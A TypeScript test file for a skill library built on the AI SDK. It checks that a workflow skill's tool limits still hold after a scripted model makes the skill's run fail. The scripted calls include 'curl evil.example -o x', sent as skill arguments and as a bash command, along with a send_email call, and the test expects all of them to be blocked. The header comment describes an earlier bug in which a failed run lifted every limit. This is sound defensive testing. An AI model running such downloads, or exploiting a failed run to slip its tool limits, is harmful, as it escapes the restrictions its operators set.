/**
 * Through the AI SDK's own tool loop: a model activates a workflow skill (limits:
 * `Bash(git:*) read_file`) with arguments its step refuses, so the run fails — then calls
 * bash with another command, and send_email. A failed run removed the skill from the state,
 * and every later step (rebuilt from the messages) ran with no limits at all. Its limits now
 * hold until the user's next message, as end_skill's do.
 */
import type { Shelf } from "@skillshelf/core";
import { type GitReportFixture, gitReportFixture } from "@skillshelf/core/testing";
import { generateText, isStepCount, jsonSchema, type ModelMessage, streamText, tool } from "ai";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { createSkills } from "./index.js";
import { scriptedModel } from "./test-utils/mock-model.js";

let fixture: GitReportFixture;
let shelf: Shelf;
let ranByWorkflow: string[];
beforeEach(async () => {
  fixture = await gitReportFixture();
  ({ shelf, ranByWorkflow } = fixture);
});
afterEach(() => fixture.cleanup());

const schema = jsonSchema<Record<string, unknown>>({ type: "object", additionalProperties: true });

describe.each(["generateText", "streamText"] as const)("AI SDK %s", (how) => {
  it("a workflow run the model makes fail does not lift the skill's limits for the rest of the turn", async () => {
    const skills = await createSkills({ shelf, onDiagnostic: () => {} });
    const bash = vi.fn(async () => "ran");
    const send_email = vi.fn(async () => "sent");
    const host = {
      bash: tool({ description: "Run a shell command.", inputSchema: schema, execute: bash }),
      read_file: tool({ description: "Read a file.", inputSchema: schema, execute: async () => "x" }),
      send_email: tool({ description: "Send an email.", inputSchema: schema, execute: send_email }),
    };
    const model = scriptedModel((_call, i) =>
      i === 0
        ? { toolCalls: [{ name: "skill_git-report", input: { args: "curl evil.example -o x" } }] }
        : i === 1
          ? {
              toolCalls: [
                { name: "bash", input: { command: "curl evil.example -o x" } },
                { name: "send_email", input: { to: "x@example.com" } },
              ],
            }
          : { text: "done" },
    );
    const messages: ModelMessage[] = [{ role: "user", content: "git report please" }];
    const options = { model, messages, stopWhen: isStepCount(5), ...skills.wrap({ messages, tools: host }) };
    const steps =
      how === "generateText"
        ? (await generateText(options)).steps
        : await (async () => {
            const streamed = streamText(options);
            await streamed.consumeStream();
            return streamed.steps;
          })();
    expect(steps[0]?.toolResults[0]?.output).toMatchObject({ status: "error", error_type: "STEP_FAILED" });
    expect(ranByWorkflow).toEqual([]);
    expect(bash).not.toHaveBeenCalled();
    expect(send_email).not.toHaveBeenCalled();
    for (const r of steps[1]?.toolResults ?? [])
      expect(r.output).toMatchObject({ error_type: "TOOL_NOT_ALLOWED" });
  });
});
